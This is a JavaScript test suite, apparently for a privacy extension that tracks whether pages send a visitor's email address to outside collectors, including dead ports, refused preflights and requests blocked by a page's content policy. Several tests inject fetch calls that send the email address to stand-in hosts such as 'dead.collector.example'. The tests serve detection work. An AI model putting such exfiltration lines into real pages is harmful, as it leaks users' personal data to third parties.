/** Asked for is not sent: what never reached a server is shown, and does not count. */

import assert from "node:assert/strict";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import { LAB, SHY, STERN } from "../site/lab/answer.js";
import { Customer } from "./customer.js";
import { eventually } from "./eventually.js";
import { openWatched } from "./stage.js";
import { nora } from "./visitor.js";

/** @type {Awaited<ReturnType<typeof openWatched>>} */
let stage;
before(async () => {
  stage = await openWatched(nora);
});
after(() => stage?.close());

/** A port of this machine at which nobody listens. @returns {Promise<number>} */
function deadPort() {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      server.close(() => resolve(typeof address === "object" && address ? address.port : 0));
    });
  });
}

/**
 * Sends from a page of its own, and looks at what became of it.
 *
 * @param {string} name
 * @param {string} code - in which `text` is the visitor's email address
 * @param {string} host - to which it goes
 */
async function outcome(name, code, host) {
  await new Customer(stage.browser, nora).visit(`${LAB}/?outcome=${name}`);
  const tabId = await stage.extension.tabId();
  await stage.browser.driver.executeAsyncScript(
    `const [text, done] = arguments; (async () => { ${code} })().then(() => done(null), () => done(null))`,
    nora.email,
  );
  await stage.sentinel.passed();
  return eventually(async () => {
    const [entry, ...others] = (await stage.extension.ledger()).filter(({ finding }) => finding.recipient.host === host);
    assert.ok(entry && others.length === 0, `${others.length + Number(Boolean(entry))} findings for ${host}`);
    assert.equal(entry.counts.attempted, 0, "it is still under way");
    const popup = await stage.extension.popup(tabId);
    return { counts: entry.counts, badge: await stage.extension.badge(tabId), groups: popup.recipients.map(({ group }) => group) };
  });
}

const NEVER_SENT = { attempted: 0, sent: 0, blocked: 0, failed: 1, cached: 0 };

test("what a server never took is not sent, and sets no badge", async () => {
  const url = `https://dead.collector.example:${await deadPort()}/?email=`;
  const { counts, badge, groups } = await outcome("dead", `await fetch(${JSON.stringify(url)} + text, { mode: "no-cors" })`, "dead.collector.example");
  assert.deepEqual({ counts, badge, groups }, { counts: NEVER_SENT, badge: "", groups: ["unclear"] });
});

test("a body held back by a refused preflight is not sent, and sets no badge", async () => {
  const code = `await fetch("${STERN}/", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email: text }) })`;
  const mark = stage.site.record.mark;
  const { counts, badge, groups } = await outcome("stern", code, new URL(STERN).host);
  const arrived = stage.site.record.since(mark).filter(({ host }) => host === new URL(STERN).host);
  assert.deepEqual(arrived.map(({ method }) => method), ["OPTIONS"]);
  assert.deepEqual({ counts, badge, groups }, { counts: NEVER_SENT, badge: "", groups: ["unclear"] });
});

test("what a server took is sent even where the page may not read the answer", async () => {
  const { counts, badge, groups } = await outcome("shy", `await fetch("${SHY}/?email=" + text)`, new URL(SHY).host);
  assert.deepEqual({ counts, badge, groups }, { counts: { ...NEVER_SENT, failed: 0, sent: 1 }, badge: "1", groups: ["counted"] });
});

test("what the page's own policy forbids never left, and is held against nobody", async () => {
  const host = "forbidden.collector.example";
  await new Customer(stage.browser, nora).visit(`${LAB}/?csp=connect-src%20'self'`);
  const tabId = await stage.extension.tabId();
  const code = `const [to, text, done] = arguments; fetch(to, { method: "POST", mode: "no-cors", body: text }).then(() => done("sent"), () => done("refused"))`;
  assert.equal(await stage.browser.driver.executeAsyncScript(code, `https://${host}/`, nora.email), "refused");
  await stage.sentinel.passed();
  const entries = (await stage.extension.ledger()).filter(({ finding }) => finding.recipient.host === host);
  assert.deepEqual(entries.filter(({ counts }) => counts.sent > 0), []);
  assert.equal(await stage.extension.badge(tabId), "");
  assert.ok(!stage.site.record.all.some((recorded) => recorded.host === host));
});
